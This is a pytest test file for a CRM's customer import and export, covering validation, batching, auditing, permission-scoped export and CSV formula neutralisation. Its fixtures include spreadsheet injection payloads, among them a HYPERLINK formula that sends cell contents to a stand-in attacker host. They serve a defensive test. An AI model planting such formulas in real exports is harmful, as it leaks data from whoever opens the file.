"""Customer import and export (kehu.cli.transfer): the functions behind
``kehu import customers`` and ``kehu export customers``."""

import io
import json

import pytest

from kehu import hookimpl
from kehu.access import Viewer
from kehu.cli.transfer import COLUMNS, RowError, export_customers, import_customers
from kehu.customers import CustomerFilter
from kehu.errors import PermissionDenied, ValidationError
from kehu.ids import to_global_id
from kehu.models import AuditEntry, Customer, CustomerKind, CustomerTag

HEADER = "name,kind,email,phone,address,region,industry,tags,owner_email,attributes\n"


def write(tmp_path, name, content):
    path = tmp_path / name
    if isinstance(content, str):
        content = content.encode("utf-8")
    path.write_bytes(content)
    return path


def run_import(app, path, **kwargs):
    async def go():
        return await import_customers(app.kehu, path, **kwargs)

    return app.run(go)


def run_export(app, out, **kwargs):
    async def go():
        return await export_customers(app.kehu, out, **kwargs)

    return app.run(go)


async def customers_by_name():
    return {c.name: c for c in await Customer.all()}


async def tag_rows():
    return sorted(await CustomerTag.all().values_list("customer__name", "tag"))


def test_csv_import_imports_good_rows_and_reports_bad_ones_with_line_numbers(app, tmp_path):
    path = write(
        tmp_path,
        "customers.csv",
        HEADER
        + 'Li Lei,PERSON,li@Example.COM,+86 138 0000 0001,,Shanghai,Retail,vip;wholesale,agent@example.com,"{""source"": ""fair""}"\n'
        + "Bad Mail,PERSON,not-an-email,,,,,,,\n"  # line 3
        + ",ORGANIZATION,x@example.com,,,,,,,\n"  # line 4: no name
        + '杭州云帆科技有限公司,organization,,,"Line one\nLine two",Zhejiang,Software,b2b|Key Account,,\n'  # lines 5-6
        + "Ghost Owner,,,,,,,,nobody@example.com,\n"  # line 7
        + "Bad Json,,,,,,,,,{not json}\n"  # line 8
        + "Bad Kind,ROBOT,,,,,,,,\n"  # line 9
        + "Too Few,PERSON\n"  # line 10
        + "Ann Smith,,ann@example.com,,,,,,,\n",  # line 11
    )
    report = run_import(app, path)

    assert report.imported == 3
    assert report.rows == 9
    assert [(e.line, e.field) for e in report.errors] == [
        (3, "email"),
        (4, "name"),
        (7, "owner_email"),
        (8, "attributes"),
        (9, "kind"),
        (10, None),
    ]
    assert report.errors[0].message == "is not a valid e-mail address"
    assert "nobody@example.com" in report.errors[2].message
    assert "header has 10 columns" in report.errors[5].message

    customers = app.run(customers_by_name)
    assert sorted(customers) == ["Ann Smith", "Li Lei", "杭州云帆科技有限公司"]
    li = customers["Li Lei"]
    assert li.email == "li@example.com"  # same normalisation as the API
    assert li.owner_id == app.accounts["agent"].id
    assert li.tags == ["vip", "wholesale"]
    assert li.attributes == {"source": "fair"}
    org = customers["杭州云帆科技有限公司"]
    assert org.kind == CustomerKind.ORGANIZATION
    assert org.address == "Line one\nLine two"
    assert org.tags == ["b2b", "key account"]
    assert customers["Ann Smith"].kind == CustomerKind.PERSON
    assert app.run(tag_rows) == [
        ("Li Lei", "vip"),
        ("Li Lei", "wholesale"),
        ("杭州云帆科技有限公司", "b2b"),
        ("杭州云帆科技有限公司", "key account"),
    ]


def test_nothing_of_a_bad_row_is_written(app, tmp_path):
    # The bad row has valid tags; only its e-mail is wrong. Neither the customer
    # nor its tag rows may appear.
    path = write(
        tmp_path,
        "customers.csv",
        HEADER + "Good,,,,,,,vip,,\n" + "Bad,,bad@,,,,,lost-tag;other,,\n",
    )
    report = run_import(app, path, batch_size=1)

    assert report.imported == 1
    assert report.errors == [RowError(3, "email", "is not a valid e-mail address", "INVALID_EMAIL")]
    assert sorted(app.run(customers_by_name)) == ["Good"]
    assert app.run(tag_rows) == [("Good", "vip")]


def test_invalid_utf8_line_is_reported_and_the_other_rows_imported(app, tmp_path):
    content = (
        "\ufeff".encode("utf-8")  # a BOM, as spreadsheets write it
        + b"name,email\n"
        + "王芳,wang@example.com\n".encode()
        + b"Caf\xe9 Latin-1,cafe@example.com\n"  # line 3: not UTF-8
        + b"Zhang Wei,zhang@example.com\n"
    )
    report = run_import(app, write(tmp_path, "mixed.csv", content))

    assert report.imported == 2
    assert [tuple(e)[:2] + (e.code,) for e in report.errors] == [(3, None, "INVALID_ENCODING")]
    assert report.errors[0].message.startswith("is not valid UTF-8 (byte 0xe9 at position 4)")
    assert sorted(app.run(customers_by_name)) == ["Zhang Wei", "王芳"]


def test_jsonl_import(app, tmp_path):
    lines = [
        {
            "name": "Olivia Brown",
            "email": "olivia@example.com",
            "tags": ["vip", "newsletter"],
            "owner_email": "manager@example.com",
        },
        {"name": "Northwind Ltd", "kind": "ORGANIZATION", "attributes": {"vat": "GB123"}, "region": "London"},
        "",
        {"name": "No Email", "email": "nope"},  # line 4
        "[1, 2]",  # line 5
        "{broken",  # line 6
        {"name": "Extra", "colour": "red"},  # line 7
        {"name": "Tags As Text", "tags": "vip"},  # line 8
    ]
    text = "\n".join(line if isinstance(line, str) else json.dumps(line, ensure_ascii=False) for line in lines)
    report = run_import(app, write(tmp_path, "customers.jsonl", text + "\n"))

    assert report.imported == 2
    assert [(e.line, e.field) for e in report.errors] == [
        (4, "email"),
        (5, None),
        (6, None),
        (7, "colour"),
        (8, "tags"),
    ]
    assert report.errors[1].message == "must be a JSON object"
    assert report.errors[2].message.startswith("is not valid JSON")
    customers = app.run(customers_by_name)
    assert customers["Olivia Brown"].tags == ["newsletter", "vip"]
    assert customers["Olivia Brown"].owner_id == app.accounts["manager"].id
    assert customers["Northwind Ltd"].attributes == {"vat": "GB123"}
    assert customers["Northwind Ltd"].kind == CustomerKind.ORGANIZATION


def test_unknown_column_rejects_the_whole_file_before_writing(app, tmp_path):
    path = write(tmp_path, "customers.csv", "name,emial\nLi Lei,li@example.com\n")
    with pytest.raises(ValidationError) as exc:
        run_import(app, path)
    assert exc.value.field == "header"
    assert "'emial'" in exc.value.message
    assert app.run(customers_by_name) == {}


def test_unsupported_file_type_is_rejected(app, tmp_path):
    with pytest.raises(ValidationError, match="unsupported file type"):
        run_import(app, write(tmp_path, "customers.doc", b"PK"))
    with pytest.raises(ValidationError, match="not a readable XLSX workbook"):
        run_import(app, write(tmp_path, "customers.xlsx", b"PK"))


def test_each_batch_commits_with_one_audit_entry(app, tmp_path):
    rows = "".join(f"Customer {i},,c{i}@example.com,,,,,,,\n" for i in range(25))
    seen = []
    report = run_import(
        app,
        write(
            tmp_path,
            "customers.csv",
            "name,kind,email,phone,address,region,industry,tags,owner_email,attributes\n" + rows,
        ),
        batch_size=10,
        actor="ops@example.com",
        progress=seen.append,
    )

    assert report.imported == 25
    assert report.batches == 3
    assert seen == [10, 20, 25]

    async def entries():
        return await AuditEntry.filter(operation="importCustomers").order_by("id")

    audit = app.run(entries)
    assert [(e.entity_type, e.changes) for e in audit] == [
        ("Customer", {"imported": 10, "created": 10}),
        ("Customer", {"imported": 10, "created": 10}),
        ("Customer", {"imported": 5, "created": 5}),
    ]
    assert all(e.actor_label == "ops@example.com import customers.csv" for e in audit)


class Recorder:
    def __init__(self):
        self.created = []

    @hookimpl
    def kehu_customer_created(self, customer, actor):
        self.created.append((customer.id, customer.name, actor))


def test_import_with_events_fires_customer_created_for_each_customer(make_app, tmp_path):
    recorder = Recorder()
    app = make_app(enabled=("recorder",), extra_plugins={"recorder": recorder})
    path = write(tmp_path, "customers.csv", "name,tags\nAlpha,a\nBeta,b\nGamma,c\n")
    run_import(app, path, batch_size=2, events=True, actor=app.accounts["admin"])

    ids = app.run(lambda: Customer.all().order_by("id").values_list("id", "name"))
    admin = app.accounts["admin"]
    assert [(i, name, actor.id) for i, name, actor in recorder.created] == [(i, name, admin.id) for i, name in ids]
    audit = app.run(lambda: AuditEntry.filter(operation="importCustomers").values_list("actor_id", "actor_label"))
    assert audit == [(admin.id, "admin@example.com (ADMIN) import customers.csv")] * 2


def test_bulk_import_fires_no_per_customer_events_by_default(make_app, tmp_path):
    recorder = Recorder()
    app = make_app(enabled=("recorder",), extra_plugins={"recorder": recorder})
    run_import(app, write(tmp_path, "customers.csv", "name\nAlpha\nBeta\n"))
    assert app.run(lambda: Customer.all().count()) == 2
    assert recorder.created == []


def test_imported_customers_are_found_by_tag_filter(app, tmp_path):
    run_import(app, write(tmp_path, "c.csv", "name,tags\nAlpha,vip;x\nBeta,x\nGamma,vip\n"))
    data = app.data('{ customers(filter: {tags: ["vip"]}) { totalCount edges { node { name } } } }', as_="admin")
    assert data["customers"]["totalCount"] == 2
    assert sorted(e["node"]["name"] for e in data["customers"]["edges"]) == ["Alpha", "Gamma"]


ROUND_TRIP_ROWS = [
    {
        "name": "Li Lei",
        "kind": "PERSON",
        "email": "li@example.com",
        "phone": "+86 138 0000 0001",
        "address": "上海市浦东新区\n世纪大道 100 号",
        "region": "Shanghai",
        "industry": "Retail",
        "tags": ["vip", "wholesale"],
        "owner_email": "agent@example.com",
        "attributes": {"source": "fair, 2025", "score": 7, "nested": {"quote": '"q"'}},
    },
    {
        "name": 'Smith & Sons, "Ltd"',
        "kind": "ORGANIZATION",
        "email": None,
        "phone": None,
        "address": None,
        "region": None,
        "industry": None,
        "tags": [],
        "owner_email": None,
        "attributes": {},
    },
]


def _without_ids(record):
    return {k: value for k, value in record.items() if k not in ("id", "external_id", "created_at")}


@pytest.mark.parametrize("format", ["csv", "jsonl"])
def test_export_then_import_updates_the_same_customers_instead_of_duplicating(app, tmp_path, format):
    source = "\n".join(json.dumps(r, ensure_ascii=False) for r in ROUND_TRIP_ROWS) + "\n"
    assert run_import(app, write(tmp_path, "source.jsonl", source)).imported == 2

    exported = io.BytesIO()
    assert run_export(app, exported, format=format) == 2
    path = write(tmp_path, f"export.{format}", exported.getvalue())
    report = run_import(app, path, on_conflict="update")
    assert report.errors == []
    assert (report.created, report.updated, report.unchanged) == (0, 0, 2)

    again = io.StringIO()
    assert run_export(app, again, format="jsonl") == 2  # the count is unchanged
    records = [json.loads(line) for line in again.getvalue().splitlines()]
    assert [_without_ids(r) for r in records] == ROUND_TRIP_ROWS


def test_exported_customers_changed_in_the_file_are_updated_by_id(app, tmp_path):
    source = "\n".join(json.dumps(r, ensure_ascii=False) for r in ROUND_TRIP_ROWS) + "\n"
    run_import(app, write(tmp_path, "source.jsonl", source))
    exported = io.StringIO()
    run_export(app, exported, format="csv")
    edited = exported.getvalue().replace("+86 138 0000 0001", "+86 139 1111 2222")
    path = write(tmp_path, "edited.csv", edited)

    refused = run_import(app, path)  # on_conflict="error" by default
    assert [(e.field, e.code) for e in refused.errors] == [("id", "DUPLICATE")]
    assert "phone" in refused.errors[0].message
    report = run_import(app, path, on_conflict="update")
    assert (report.created, report.updated, report.unchanged, report.errors) == (0, 1, 1, [])
    phones = app.run(lambda: Customer.all().order_by("id").values_list("phone", flat=True))
    assert phones == ["+86 139 1111 2222", None]


def test_csv_export_has_the_import_columns(app, tmp_path):
    run_import(app, write(tmp_path, "c.jsonl", json.dumps(ROUND_TRIP_ROWS[0], ensure_ascii=False) + "\n"))
    out = io.StringIO()
    run_export(app, out)
    header, first = out.getvalue().split("\n", 1)
    assert tuple(header.split(",")) == COLUMNS
    customer_id = app.run(lambda: Customer.all().values_list("id", flat=True))[0]
    # A leading + would start a formula in a spreadsheet: the cell is quoted as text.
    assert first.startswith(
        f"{to_global_id('Customer', customer_id)},,Li Lei,PERSON,li@example.com,'+86 138 0000 0001,"
    )
    assert "vip;wholesale,agent@example.com," in first


def seed_owned_customers(app, tmp_path, per_owner=3):
    rows = "".join(
        f"{owner} customer {i},{owner}@example.com\n"
        for owner in ("agent", "agent2", "agent_south")
        for i in range(per_owner)
    )
    run_import(app, write(tmp_path, "owned.csv", "name,owner_email\n" + rows + "Nobody's,\n"))


def exported_names(app, viewer, **kwargs):
    out = io.StringIO()
    run_export(app, out, format="jsonl", viewer=viewer, **kwargs)
    return sorted(json.loads(line)["name"] for line in out.getvalue().splitlines())


def test_export_as_agent_contains_only_their_customers(app, tmp_path, monkeypatch):
    monkeypatch.setattr("kehu.cli.transfer.EXPORT_PAGE_SIZE", 2)  # several pages
    seed_owned_customers(app, tmp_path)
    agent = Viewer(owner=app.accounts["agent"], permissions=frozenset({"customers.export"}))
    assert exported_names(app, agent) == ["agent customer 0", "agent customer 1", "agent customer 2"]


def test_export_as_manager_is_scoped_to_the_team(app, tmp_path):
    seed_owned_customers(app, tmp_path, per_owner=1)
    owner = app.accounts["manager"]
    manager = Viewer(owner=owner, permissions=app.kehu.permissions_for(owner.role))
    assert exported_names(app, manager) == ["agent customer 0", "agent2 customer 0"]


def test_export_without_viewer_contains_every_customer_and_honours_the_filter(app, tmp_path, monkeypatch):
    monkeypatch.setattr("kehu.cli.transfer.EXPORT_PAGE_SIZE", 4)
    seed_owned_customers(app, tmp_path)
    assert len(exported_names(app, None)) == 10
    assert exported_names(app, None, filter=CustomerFilter(unassigned=True)) == ["Nobody's"]


def test_export_needs_the_export_permission(app):
    owner = app.accounts["agent"]
    agent = Viewer(owner=owner, permissions=app.kehu.permissions_for(owner.role))
    with pytest.raises(PermissionDenied):
        run_export(app, io.StringIO(), viewer=agent)


def test_export_reports_progress_per_page(app, tmp_path, monkeypatch):
    monkeypatch.setattr("kehu.cli.transfer.EXPORT_PAGE_SIZE", 4)
    seed_owned_customers(app, tmp_path)
    seen = []
    run_export(app, io.StringIO(), progress=seen.append)
    assert seen == [4, 8, 10]


def test_a_row_the_database_refuses_is_reported_and_the_rest_of_its_batch_written(app, tmp_path, monkeypatch):
    # Validation catches what it can; should the database still refuse a row (here:
    # an owner that vanished after the import started), only that row is lost.
    from kehu.cli import transfer

    load_owners = transfer.OwnerDirectory.load

    async def with_vanished_owner(self):
        await load_owners(self)
        self.by_email["gone@example.com"] = 987654

    monkeypatch.setattr(transfer.OwnerDirectory, "load", with_vanished_owner)
    rows = "".join(f"C{i},{'gone@example.com' if i == 5 else ''},t{i}\n" for i in range(8))
    report = run_import(app, write(tmp_path, "c.csv", "name,owner_email,tags\n" + rows), batch_size=8)

    assert report.imported == 7
    assert [(e.line, e.field) for e in report.errors] == [(7, None)]
    assert report.errors[0].message.startswith("the database refused the row")
    assert sorted(app.run(customers_by_name)) == [f"C{i}" for i in range(8) if i != 5]
    assert len(app.run(tag_rows)) == 7


# --------------------------------------------------------------------------- safe in a spreadsheet

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd",
    "\r=cmd",
    "＝1+1",
    "'=already quoted",
    "plain 'text'",
]


def test_csv_export_neutralises_formula_cells_and_imports_back_unchanged(app, tmp_path):
    rows = [
        {"name": formula, "phone": "+86 138 0000 0000", "industry": "=1+1", "region": "@here"} for formula in FORMULAS
    ]
    source = "\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n"
    # One phone number for every row: duplicates, created on purpose.
    imported = run_import(app, write(tmp_path, "source.jsonl", source), allow_duplicates=True)
    assert imported.imported == len(FORMULAS)

    before = io.StringIO()
    run_export(app, before, format="jsonl")
    stored = [json.loads(line) for line in before.getvalue().splitlines()]
    out = io.StringIO()
    run_export(app, out)
    import csv

    cells = [cell for record in list(csv.reader(io.StringIO(out.getvalue())))[1:] for cell in record]
    dangerous = [c for c in cells if c and c[0] in "=+-@\t\r＝＋－＠"]
    assert dangerous == []
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"open")' in cells
    assert "''=already quoted" in cells and "plain 'text'" in cells

    # Imported again, the quoted cells read back as they were: nothing changes.
    report = run_import(app, write(tmp_path, "export.csv", out.getvalue()), on_conflict="update")
    assert (report.errors, report.updated, report.unchanged) == ([], 0, len(FORMULAS))
    exact = io.StringIO()
    run_export(app, exact, format="jsonl")
    records = [json.loads(line) for line in exact.getvalue().splitlines()]
    # JSON Lines is exact.
    assert records == stored
    assert '=HYPERLINK("https://evil.example/?"&A1,"open")' in [r["name"] for r in stored]
    assert {r["phone"] for r in records} == {"+86 138 0000 0000"}
    assert {(r["industry"], r["region"]) for r in records} == {("=1+1", "@here")}


def _customers_jsonl(capsys) -> list[dict]:
    from kehu.cli.main import main as kehu_main

    capsys.readouterr()
    assert kehu_main(["export", "customers", "--format", "jsonl"]) == 0
    return [_without_ids(json.loads(line)) for line in capsys.readouterr().out.splitlines()]


def test_a_phone_with_a_plus_survives_export_and_import_through_the_commands(tmp_path, db_url, capsys, monkeypatch):
    """+86 … is quoted in the CSV ('+86 …, no formula), and the import takes the
    quote off again: the same customer, unchanged, whichever way it comes back."""
    from kehu.cli.main import main as kehu_main

    config = tmp_path / "plugins.toml"
    config.write_text(f'[kehu]\ndatabase_url = "{db_url}"\n', encoding="utf-8")
    monkeypatch.setenv("KEHU_CONFIG", str(config))
    assert kehu_main(["migrate"]) == 0
    rows = [
        {"name": "王芳", "phone": "+86 138 0013 8000", "region": "-", "industry": "@home"},
        {"name": "=1+1", "phone": None, "region": "'+quoted", "industry": None},
    ]
    source = write(tmp_path, "source.jsonl", "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows))
    assert kehu_main(["import", "customers", str(source)]) == 0
    before = _customers_jsonl(capsys)
    assert before[0]["phone"] == "+86 138 0013 8000"

    exported = tmp_path / "customers.csv"
    assert kehu_main(["export", "customers", "--output", str(exported)]) == 0
    text = exported.read_text(encoding="utf-8")
    assert "'+86 138 0013 8000" in text and "\n+86" not in text and ",+86" not in text
    assert kehu_main(["import", "customers", str(exported), "--on-conflict", "update"]) == 0
    assert "2 unchanged" in capsys.readouterr().out
    assert _customers_jsonl(capsys) == before

    # Opened in a spreadsheet and saved as a workbook, the quote is text in the cell.
    import csv

    from openpyxl import Workbook

    book = Workbook()
    for record in csv.reader(io.StringIO(text)):
        book.active.append(record)
    saved = tmp_path / "customers.xlsx"
    book.save(saved)
    assert kehu_main(["import", "customers", str(saved), "--on-conflict", "update"]) == 0
    assert "2 unchanged" in capsys.readouterr().out
    assert _customers_jsonl(capsys) == before


def test_the_error_report_of_an_import_neutralises_what_the_file_held(app, tmp_path):
    path = write(tmp_path, "bad.csv", HEADER + "=1+1,ALIEN,,,,,,,,\n")
    report = run_import(app, path)
    assert report.errors
    out = io.StringIO()
    report.write_errors(out)
    import csv

    cells = [cell for record in csv.reader(io.StringIO(out.getvalue())) for cell in record]
    assert not [c for c in cells if c and c[0] in "=+-@\t\r"]


def test_every_csv_the_project_writes_goes_through_the_safe_writer():
    """A CSV written with a bare csv.writer would not be neutralised: none exists."""
    import pathlib
    import re

    root = pathlib.Path(__file__).resolve().parent.parent
    offenders = []
    for folder in ("core", "schema", "plugins", "examples"):
        for path in (root / folder).rglob("*.py"):
            if path.name == "csvsafe.py":
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"\bcsv\.(writer|DictWriter)\s*\(", text) or re.search(
                r"from csv import .*\b(writer|DictWriter)\b", text
            ):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
